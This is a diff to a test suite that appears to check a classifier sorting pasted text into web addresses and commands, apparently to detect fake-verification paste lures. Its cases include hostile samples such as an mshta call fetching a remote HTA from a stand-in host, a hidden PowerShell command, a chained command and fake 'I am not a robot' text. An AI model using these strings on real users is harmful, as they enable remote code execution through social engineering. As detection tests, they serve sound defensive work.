@@ -70,6 +70,15 @@ PAGE = "https://docs.example.org/help"
         ("notepad C:\\notes.txt && calc", Shape.COMMAND),
         ("powershell -w h -c calc", Shape.COMMAND),
         ("mshta https://evil.test/x.hta", Shape.COMMAND),
+        # a web address with a space in a folder's name, copied as shown: the browser opens it
+        ("https://acme.sharepoint.com/sites/IT/Shared Documents", Shape.URL),
+        ("https://acme.sharepoint.com/sites/HR/Shared Documents/Leave Policy 2025.pdf", Shape.URL),
+        # ...but not with a program's name, a program file or a fake check's words after it
+        ("https://evil.test/x mshta", Shape.COMMAND),
+        ("https://files.example.test/tools/Setup Tool.exe", Shape.COMMAND),
+        ("https://files.example.test/a.pdf run now", Shape.COMMAND),
+        ("https://microsoft.com/devicelogin FJ6CMNQ8R", Shape.COMMAND),
+        ("https://microsoft.com/devicelogin: code", Shape.COMMAND),
         ("https://evil.test/verify ✅ I am not a robot", Shape.COMMAND),
         ("https://evil.test/a.pdf Verification ID 4821.txt", Shape.COMMAND),
         ("explorer.exe https://evil.test", Shape.COMMAND),
